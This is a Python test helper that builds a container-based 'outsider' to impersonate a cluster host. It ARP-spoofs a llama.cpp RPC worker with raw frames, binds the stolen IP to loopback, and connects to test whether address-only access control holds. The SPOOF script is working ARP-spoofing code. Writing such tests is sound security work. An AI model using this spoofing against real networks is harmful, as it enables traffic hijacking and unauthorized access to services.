"""An outsider on a test network that takes another host's IP address: the attack an RPC port guarded only by an
address admits. A throwaway container from the test bed's image joins the network, adds the victim's address to its
loopback and tells the target (a worker) that the address is now at its MAC, with unsolicited ARP replies sent every
half second (ARP spoofing): the target's answers to that address then come to the outsider, as they would to a machine
that took the address on a shared VLAN. Only the target is told: the taken address sits on the outsider's loopback,
and its ARP settings keep it from answering or asking with that address on the network, so the other hosts keep
reaching the real owner (the master's other workers, which a broadcast ARP with the master's address would
misdirect). Then it opens a TCP connection from that address and speaks the RPC protocol's HELLO (llama.cpp RPC v7:
command 14 with 24 zero bytes; the answer starts with the protocol's major, minor, patch).

    with Outsider(client, network) as outsider:
        with outsider.taking(victim_address, target_container):
            outsider.hello(target_address, port, source=victim_address)   # '7.0.0', 'busy', 'timeout', 'refused'
"""

import contextlib
import time

from tests.tools import containers

IMAGE = "llama-rpc-testbed:bookworm"

# Runs in the outsider: ARP replies "<address> is at <our MAC>" to the target, every half second until killed.
SPOOF = """
import socket, struct, sys, time
address, target_ip, target_mac = sys.argv[1:4]
ours = bytes.fromhex(open("/sys/class/net/eth0/address").read().strip().replace(":", ""))
theirs = bytes.fromhex(target_mac.replace(":", ""))
frame = (theirs + ours + struct.pack("!H", 0x0806)
         + struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2) + ours + socket.inet_aton(address) + theirs + socket.inet_aton(target_ip))
sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
sock.bind(("eth0", 0))
while True:
    sock.send(frame)
    time.sleep(0.5)
"""

# Runs in the outsider: TCP from the given source to address:port, then the RPC HELLO; prints what came back.
HELLO = """
import socket, struct, sys
source, address, port, timeout = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
sock = socket.socket()
sock.settimeout(timeout)
sock.bind((source, 0))
try:
    sock.connect((address, port))
except socket.timeout:
    print("timeout"); sys.exit()
except ConnectionRefusedError:
    print("refused"); sys.exit()
except OSError as error:
    print("error", error.errno); sys.exit()
sock.sendall(bytes([14]) + struct.pack("<Q", 24) + bytes(24))
# The answer is an 8-byte size and then the payload, sent apart: read until both are here (one recv may hold the size only)
reply = b""
while len(reply) < 11:
    try:
        part = sock.recv(64)
    except socket.timeout:
        print("busy" if not reply else "partial " + reply.hex()); sys.exit()
    if not part:
        print("closed" if not reply else "partial " + reply.hex()); sys.exit()
    reply += part
print("%d.%d.%d" % (reply[8], reply[9], reply[10]))
"""


class Outsider:
    """A container on the network that is none of the cluster's hosts."""

    def __init__(self, client, network, name="llama-rpc-outsider"):
        self.client, self.network, self.name = client, network, name
        self.container = None

    def __enter__(self):
        containers.remove_named(self.client, self.name)
        # arp_ignore=1: no ARP answer for an address that is not on eth0 (a taken one is on lo); arp_announce=2: ask
        # with its own address, never a taken one. Set at creation: a container's /proc/sys is read-only.
        self.container = self.client.containers.run(IMAGE, ["sleep", "infinity"], name=self.name, detach=True,
                                                    network=self.network, cap_add=["NET_ADMIN", "NET_RAW"],
                                                    sysctls={"net.ipv4.conf.all.arp_ignore": "1",
                                                             "net.ipv4.conf.all.arp_announce": "2"})
        return self

    def __exit__(self, *_exc):
        self.container.remove(force=True)

    def sh(self, command):
        return containers.checked_sh(self.container, command)

    @contextlib.contextmanager
    def taking(self, address, target, also=()):
        """The victim's address on the outsider (its loopback), and the target (a container) told by ARP that it is here;
        also: more addresses to add (a tunnel address, reached through the target: routed via its address). Undone
        afterwards: the addresses go, and the target forgets the outsider's MAC for the address."""
        target_ip = interface_address(target)
        target_mac = containers.checked_sh(target, "cat /sys/class/net/eth0/address")
        self.sh(f"ip address add {address}/32 dev lo")
        for extra, network in also:
            self.sh(f"ip address add {extra}/32 dev lo && ip route add {network} via {target_ip} src {extra}")
        # (the last argument marks the process, to stop it)
        self.container.exec_run(["python3", "-c", SPOOF, address, target_ip, target_mac, "llama-rpc-spoof"], detach=True)
        time.sleep(1.5)  # Linux takes a neighbour's new MAC once its entry is a second old (locktime)
        try:
            yield self
        finally:
            self.sh("pkill -f llama-rpc-spo[o]f")  # [o]: not this shell, whose command line holds the pattern
            for extra, network in also:
                self.sh(f"ip route del {network} && ip address del {extra}/32 dev lo")
            self.sh(f"ip address del {address}/32 dev lo")
            target.exec_run(["ip", "neigh", "flush", "to", address, "dev", "eth0"])

    def hello(self, address, port, source, timeout=3):
        """What the outsider gets from address:port, connecting from source: the worker's RPC protocol version
        ('7.0.0'), 'busy' (connected, no answer: the worker serves another client), 'closed' (connected, then closed
        without an answer), 'timeout', 'refused'."""
        code, output = containers.run(self.container, ["python3", "-c", HELLO, source, address, str(port), str(timeout)])
        assert code == 0, output.decode()
        return output.decode().strip()


def interface_address(container):
    """The container's address on its (one) test network."""
    container.reload()
    return next(iter(container.attrs["NetworkSettings"]["Networks"].values()))["IPAddress"]
